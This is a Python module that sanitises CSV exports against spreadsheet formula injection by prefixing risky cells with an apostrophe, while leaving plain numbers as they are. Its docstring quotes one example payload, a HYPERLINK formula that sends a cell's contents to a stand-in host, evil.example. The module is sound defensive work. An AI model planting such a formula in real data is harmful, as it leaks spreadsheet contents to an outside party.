"""The one CSV writer every export uses (the weekly review on the web and the CLI, the Sync errors
export): the standard library's ``csv`` with every text cell made safe to open in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and some also
after a leading tab or carriage return), so a form's ``utm_campaign`` of
``=HYPERLINK("http://evil.example/?x="&A1, …)`` would run on the coordinator's machine. Such a cell
is written with a leading apostrophe, which spreadsheets show as text (OWASP "CSV Injection"). Numbers
— Python ints and floats, and text that is only a number like ``-12.5`` or ``+3%`` — cannot be
formulas and are written as they are.

(``defusedcsv`` does the same as a drop-in module, but leaves a leading tab or carriage return alone
and rewrites ``|`` inside cells; this module is the few lines the rule needs.)
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

__all__ = ["FORMULA_PREFIXES", "CsvWriter", "neutralise", "neutralise_text", "to_csv"]

#: What a cell may not start with (OWASP's list).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d[\d,]*)(\.\d+)?%?$")


def neutralise(value: Any) -> Any:
    """``value`` as a cell no spreadsheet runs as a formula."""
    if value is None or isinstance(value, int | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES) and not _NUMBER.match(text):
        return "'" + text
    return text


class CsvWriter:
    """``csv.writer`` with every cell neutralised."""

    def __init__(self, out: Any, **fmtparams: Any) -> None:
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def to_csv(rows: Iterable[Sequence[Any]], *, lineterminator: str = "\r\n") -> str:
    """``rows`` as CSV text (neutralised)."""
    buffer = io.StringIO()
    CsvWriter(buffer, lineterminator=lineterminator).writerows(rows)
    return buffer.getvalue()


def neutralise_text(text: str) -> str:
    """CSV ``text`` written before this module existed (a kept report), made safe the same way."""
    rows = list(csv.reader(io.StringIO(text)))
    terminator = "\r\n" if "\r\n" in text else "\n"
    return to_csv(rows, lineterminator=terminator)
